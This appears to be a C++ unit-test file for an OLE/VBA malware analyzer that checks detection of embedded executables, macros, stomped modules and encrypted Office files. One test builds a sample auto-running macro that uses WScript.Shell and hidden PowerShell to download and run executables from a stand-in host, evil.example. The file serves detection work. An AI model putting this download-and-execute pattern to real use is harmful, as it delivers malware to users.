// OleAnalyzer on real files (clamav-testfiles, the shared corpus) and generated projects, and
// end to end through lg::Scan so embedded objects are followed to their descendants.
#include "analyzers/ole/ole_analyzer.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "core/file_type.h"
#include "core/testing/recording_context.h"
#include "engine/scan.h"
#include "formats/cfb/cfb_builder.h"

namespace lg {
namespace {

using testing::CfbBuilder;
using testing::RecordingContext;

RecordingContext run_bytes(ByteView data) {
  RecordingContext ctx;
  OleAnalyzer a;
  EXPECT_TRUE(a.analyze(data, ctx).is_ok());
  return ctx;
}
RecordingContext run_file(const std::string& path) {
  std::string data = testing::read_file(path);
  EXPECT_FALSE(data.empty()) << path;
  return run_bytes(as_bytes(data));
}
std::vector<std::string> list(const RecordingContext& ctx, const std::string& key) {
  auto it = ctx.facts.find(key);
  if (it == ctx.facts.end()) return {};
  auto* v = std::get_if<std::vector<std::string>>(&it->second);
  return v ? *v : std::vector<std::string>{};
}

// [MS-OVBA] 2.4.1 container with raw (uncompressed) chunks only: the simplest valid form.
Bytes raw_container(std::string_view text) {
  Bytes out = {0x01};
  for (std::size_t off = 0; off < text.size(); off += 4096) {
    std::string chunk(text.substr(off, 4096));
    chunk.resize(4096, ' ');
    std::uint16_t header = 0x3000 | (4096 + 2 - 3);  // signature 0b011, not compressed
    out.push_back(static_cast<std::uint8_t>(header));
    out.push_back(static_cast<std::uint8_t>(header >> 8));
    out.insert(out.end(), chunk.begin(), chunk.end());
  }
  return out;
}
// A compressed container holding `text` as literals only (flag byte 0 before each 8 bytes).
Bytes literal_container(std::string_view text) {
  Bytes body;
  for (std::size_t i = 0; i < text.size(); i += 8) {
    body.push_back(0);
    for (std::size_t k = i; k < std::min(text.size(), i + 8); ++k) body.push_back(text[k]);
  }
  Bytes out = {0x01};
  std::uint16_t header = static_cast<std::uint16_t>(0xB000 | (body.size() + 2 - 3));
  out.push_back(static_cast<std::uint8_t>(header));
  out.push_back(static_cast<std::uint8_t>(header >> 8));
  out.insert(out.end(), body.begin(), body.end());
  return out;
}
void record(Bytes& b, std::uint16_t id, std::string_view data) {
  b.push_back(static_cast<std::uint8_t>(id));
  b.push_back(static_cast<std::uint8_t>(id >> 8));
  std::uint32_t n = static_cast<std::uint32_t>(data.size());
  for (int i = 0; i < 4; ++i) b.push_back(static_cast<std::uint8_t>(n >> (8 * i)));
  b.insert(b.end(), data.begin(), data.end());
}
std::string u32(std::uint32_t v) {
  std::string s(4, '\0');
  for (int i = 0; i < 4; ++i) s[i] = static_cast<char>(v >> (8 * i));
  return s;
}

struct Module {
  std::string name;
  std::string source;
  std::size_t pcode = 0;
};
// A document with a Macros/VBA project of the given modules; `listed` modules in PROJECT.
Bytes vba_document(const std::vector<Module>& mods, const std::vector<std::string>& listed) {
  Bytes dir;
  record(dir, 0x0001, u32(1));                      // PROJECTSYSKIND
  record(dir, 0x004A, u32(2));                      // PROJECTCOMPATVERSION (newer Office)
  record(dir, 0x0003, std::string("\xE4\x04", 2));  // PROJECTCODEPAGE 1252
  record(dir, 0x0004, "Project");
  record(dir, 0x00FE, "unknown record");  // skipped by size
  record(dir, 0x000F, std::string(1, static_cast<char>(mods.size())) + '\0');
  for (const Module& m : mods) {
    record(dir, 0x0019, m.name);
    record(dir, 0x001A, m.name);
    record(dir, 0x0031, u32(static_cast<std::uint32_t>(m.pcode)));
    record(dir, 0x0021, "");
    record(dir, 0x002B, "");
  }
  record(dir, 0x0010, "");
  CfbBuilder b;
  int macros = b.storage("Macros");
  int vba = b.storage("VBA", macros);
  b.stream("dir", literal_container(std::string(dir.begin(), dir.end())), vba);
  b.stream("_VBA_PROJECT", std::string("\xCC\x61\xFF\xFF\x00\x00\x00 padding", 16), vba);
  for (const Module& m : mods) {
    Bytes s(m.pcode, 0x41);
    Bytes src = raw_container(m.source);
    s.insert(s.end(), src.begin(), src.end());
    b.stream(m.name, s, vba);
  }
  std::string project = "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n";
  for (const auto& n : listed) project += "Module=" + n + "\r\n";
  project += "Name=\"Project\"\r\n[Host Extender Info]\r\n";
  b.stream("PROJECT", project, macros);
  b.stream("WordDocument", std::string(600, 'w'));
  return b.build();
}

TEST(OleAnalyzer, ClamOleDocEmbedsClamExeAsPackage) {
  RecordingContext ctx = run_file("/usr/share/clamav-testfiles/clam.ole.doc");
  EXPECT_EQ(ctx.str("author"), "acab");
  EXPECT_EQ(ctx.str("created"), "2008-08-03T22:09:00Z");
  EXPECT_EQ(ctx.str("app_name"), "Microsoft Office Word");
  EXPECT_EQ(ctx.str("ole_root_clsid"), "{00020906-0000-0000-C000-000000000046}");
  EXPECT_EQ(ctx.str("package_path"), "C:\\clam.exe");
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.relation, "package");
  EXPECT_EQ(ctx.children[0].info.name, "Clam.exe");
  EXPECT_EQ(identify(ctx.children[0].data), FileType::kPe);
  EXPECT_EQ(ctx.children[0].data.size(), 544u);
  EXPECT_TRUE(ctx.has(Symbol::OFFICE_EMBEDDED_EXECUTABLE));
  EXPECT_FALSE(ctx.has(Symbol::VBA_MACRO));
  EXPECT_EQ(std::get<bool>(ctx.facts.at("has_vba")), false);
  auto entries = list(ctx, "ole_entries");
  EXPECT_NE(std::find(entries.begin(), entries.end(), "ObjectPool/_1279313719/\x01Ole10Native"),
            entries.end());
}

// End to end: clam.ppt keeps clam.exe in a compressed ExOleObjStg of the PowerPoint Document
// stream; the engine follows it to a PE two levels down.
TEST(OleAnalyzer, ClamPptReachesClamExeThroughTheEngine) {
  Config config = default_config();
  TextScanner scanner;
  Report r;
  Scan scan(config, scanner, r, [](FileType t) -> std::unique_ptr<Analyzer> {
    if (t == FileType::kOle2) return std::make_unique<OleAnalyzer>();
    return make_analyzer(t);
  });
  std::string data = testing::read_file("/usr/share/clamav-testfiles/clam.ppt");
  scan.run("clam.ppt", as_bytes(data));
  bool pe = false;
  for (const auto& o : r.objects) pe = pe || (o.type == "pe" && o.depth == 2);
  EXPECT_TRUE(pe);
  bool embedded = std::any_of(r.findings.begin(), r.findings.end(), [](const Finding& f) {
    return f.symbol == "OFFICE_EMBEDDED_EXECUTABLE";
  });
  EXPECT_TRUE(embedded);
}

TEST(OleAnalyzer, SampleWithVbaPptIsReadInPlace) {
  RecordingContext ctx = run_file(LG_SHARED_DIR "/corpus/office/olevba/sample_with_vba.ppt");
  EXPECT_EQ(list(ctx, "vba_modules"), std::vector<std::string>{"Module1"});
  EXPECT_TRUE(ctx.has(Symbol::VBA_AUTOEXEC));
  EXPECT_NE(ctx.all_text(TextKind::kMacro).find("MsgBox \"The action button clicked!\""),
            std::string::npos);
  EXPECT_EQ(ctx.str("title"), "PPT VBA TEST");
}

TEST(OleAnalyzer, GeneratedMacroWithMraptorRule) {
  std::string code =
      "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n"
      "  Set x = CreateObject(\"WScript.Shell\")\r\n"
      "  x.Run \"powershell -w hidden -c iwr http://evil.example/a.exe\"\r\n"
      "  URLDownloadToFile 0, \"http://evil.example/b\", Environ(\"TEMP\") & \"\\b.exe\", 0, 0\r\n"
      "  s = StrReverse(\"exe.dmc\")\r\nEnd Sub\r\n";
  Bytes doc = vba_document({{"Module1", code, 40}}, {"Module1"});
  RecordingContext ctx = run_bytes(doc);
  EXPECT_EQ(list(ctx, "vba_modules"), std::vector<std::string>{"Module1"});
  for (Symbol s :
       {Symbol::VBA_MACRO, Symbol::VBA_AUTOEXEC, Symbol::VBA_EXECUTE, Symbol::VBA_DOWNLOAD,
        Symbol::VBA_OBFUSCATION, Symbol::VBA_SUSPICIOUS, Symbol::VBA_AUTO_EXEC_WRITE_EXECUTE})
    EXPECT_TRUE(ctx.has(s)) << symbol_info(s).name;
  EXPECT_FALSE(ctx.has(Symbol::VBA_STOMPED));
  EXPECT_NE(ctx.all_text(TextKind::kMacro).find("http://evil.example/a.exe"), std::string::npos);
  auto exes = list(ctx, "vba_executable_names");
  EXPECT_NE(std::find(exes.begin(), exes.end(), "a.exe"), exes.end());
  // Evidence names the keyword and its line.
  for (const auto& f : ctx.findings)
    if (f.symbol == Symbol::VBA_DOWNLOAD) {
      EXPECT_EQ(f.evidence.value, "URLDownloadToFile");
      EXPECT_NE(f.evidence.detail.find("line 5"), std::string::npos) << f.evidence.detail;
    }
  // The hash ignores Attribute lines: another module name, same code, same hash.
  std::string renamed = code;
  renamed.replace(renamed.find("Module1"), 7, "Other12");
  RecordingContext again = run_bytes(vba_document({{"Module1", renamed, 40}}, {"Module1"}));
  EXPECT_EQ(ctx.str("vba_code_hash"), again.str("vba_code_hash"));
  EXPECT_EQ(ctx.str("vba_code_hash").size(), 64u);
}

TEST(OleAnalyzer, StompedAndHiddenModules) {
  // Empty source behind 3000 bytes of P-code: stomped.
  RecordingContext a = run_bytes(
      vba_document({{"Module1", "Attribute VB_Name = \"Module1\"\r\n", 3000}}, {"Module1"}));
  EXPECT_TRUE(a.has(Symbol::VBA_STOMPED));
  // An empty module with a small P-code cache is what Office writes: not stomped.
  RecordingContext b = run_bytes(
      vba_document({{"ThisDocument", "Attribute VB_Name = \"x\"\r\n", 500}}, {"ThisDocument"}));
  EXPECT_FALSE(b.has(Symbol::VBA_STOMPED));
  // A module missing from PROJECT is hidden from the editor.
  RecordingContext c = run_bytes(vba_document(
      {{"Module1", "Sub A()\r\nEnd Sub\r\n", 10}, {"Hidden", "Sub B()\r\nEnd Sub\r\n", 10}},
      {"Module1"}));
  EXPECT_TRUE(c.has(Symbol::VBA_STOMPED));
  EXPECT_EQ(list(c, "vba_modules").size(), 2u);
}

TEST(OleAnalyzer, CarvesSourceFromAFileWithoutDirectory) {
  Bytes junk(700, 0xEE);
  Bytes src = literal_container(
      "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n");
  junk.insert(junk.end(), src.begin(), src.end());
  Bytes file = {0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1};  // signature, then garbage
  file.insert(file.end(), junk.begin(), junk.end());
  RecordingContext ctx = run_bytes(file);
  EXPECT_TRUE(ctx.has(Symbol::OLE_MALFORMED));
  EXPECT_EQ(list(ctx, "vba_carved").size(), 1u);
  EXPECT_TRUE(ctx.has(Symbol::VBA_AUTO_EXEC_WRITE_EXECUTE));
}

TEST(OleAnalyzer, EncryptedDocuments) {
  for (const char* f : {"encrypted.doc", "encrypted.xls", "encrypted.ppt", "encrypted.docx",
                        "encrypted.xlsm", "encrypted.pptx"}) {
    RecordingContext ctx = run_file(std::string(LG_SHARED_DIR "/corpus/office/encrypted/") + f);
    EXPECT_TRUE(ctx.has(Symbol::OFFICE_ENCRYPTED)) << f;
  }
  RecordingContext clean = run_file(LG_SHARED_DIR "/corpus/office/msodde/harmless-clean.doc");
  EXPECT_FALSE(clean.has(Symbol::OFFICE_ENCRYPTED));
}

}  // namespace
}  // namespace lg
